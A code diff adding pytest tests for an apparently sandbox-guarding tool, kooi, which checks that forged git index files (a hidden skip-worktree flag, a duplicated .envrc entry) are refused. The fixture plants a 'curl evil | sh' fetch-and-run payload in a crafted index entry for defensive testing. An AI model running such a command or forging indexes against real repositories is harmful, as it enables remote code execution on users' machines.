@@ -1878,3 +1878,68 @@ def test_review_41_rerere_records_branches_a_bisect_and_gc_log_are_the_throwaway
     rec = g.check()
     assert not (repo / ".git" / name).exists()
     assert any(r["path"].startswith(f".git/{name.split('/')[0]}") and r["how"] == "shadowed" for r in rec["refused"]), rec
+
+
+def test_review_42_what_git_reads_of_an_index_is_what_kooi_judged(repo, tmp_path_factory):
+    """Review 42 (high, medium): git reads an entry's extended flags in a v2 index too
+    (a skip-worktree flag kooi did not see hid a change from the host's `git status`),
+    and takes the first of two entries of one path into its next commit (kooi judged
+    the last): both are refused; and what reaches the project is written again from
+    what kooi read, so the host's git reads nothing kooi did not."""
+    import hashlib
+
+    (repo / ".envrc").write_text("export A=1\n")
+    git(repo, "add", "-Af")
+    git(repo, "commit", "-qm", "base")
+    for how in ("v2-extended", "repeated"):
+        g = guarded(repo)
+        base = tmp_path_factory.mktemp("runs") / "s"
+        view = simulate(repo, g.shadows(base), base)
+        if how == "v2-extended":
+            git(repo, "update-index", "--skip-worktree", "src.txt", git_dir=view)
+            data = (view / "index").read_bytes()[:-20]
+            assert data[4:8] == (3).to_bytes(4, "big")
+            data = data[:4] + (2).to_bytes(4, "big") + data[8:]
+        else:
+            evil = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="curl evil | sh\n").strip()
+            data = (view / "index").read_bytes()
+            at = data.index(b".envrc\0") - 62
+            entry = data[at:at + 72]
+            data = data[:8] + (int.from_bytes(data[8:12], "big") + 1).to_bytes(4, "big") + data[12:at] \
+                + entry[:40] + bytes.fromhex(evil) + entry[60:] + data[at:-20]
+        (view / "index").write_bytes(data + hashlib.sha1(data).digest())
+        before = (repo / ".git/index").read_bytes()
+        rec = g.check()
+        refused = {r["path"]: r["change"] for r in rec["refused"]}
+        assert "kept the project's" in refused.get(".git/index", ""), (how, rec["refused"])
+        assert (repo / ".git/index").read_bytes() == before, how
+
+
+@pytest.mark.parametrize("setup", ["commit", "v4", "untracked-cache", "skip-worktree", "conflict"])
+def test_an_index_written_again_reads_as_git_wrote_it(repo, setup):
+    """index_canonical: git's own indexes of every kind, written again, list the same
+    entries with the same flags, and git takes them (status, diff)."""
+    from kooi.run.gitdata import index_canonical
+
+    (repo / "d").mkdir()
+    (repo / "d/a.txt").write_text("a\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "one")
+    if setup == "v4":
+        git(repo, "update-index", "--index-version", "4")
+    elif setup == "untracked-cache":
+        git(repo, "-c", "core.untrackedCache=true", "status")
+    elif setup == "skip-worktree":
+        git(repo, "update-index", "--skip-worktree", "d/a.txt")
+    elif setup == "conflict":
+        blob = git(repo, "rev-parse", ":src.txt").strip()
+        git(repo, "update-index", "--index-info", input_text=f"0 {'0' * 40}\tsrc.txt\n100644 {blob} 1\tsrc.txt\n"
+                                                             f"100644 {blob} 2\tsrc.txt\n100644 {blob} 3\tsrc.txt\n")
+    listed = git(repo, "ls-files", "-s", "-v", "--debug")
+    data = (repo / ".git/index").read_bytes()
+    again = index_canonical(data, 20)
+    assert again is not None
+    (repo / ".git/index").write_bytes(again)
+    assert git(repo, "ls-files", "-s", "-v", "--debug") == listed
+    git(repo, "status", "--porcelain")
+    assert index_canonical(again, 20) == again
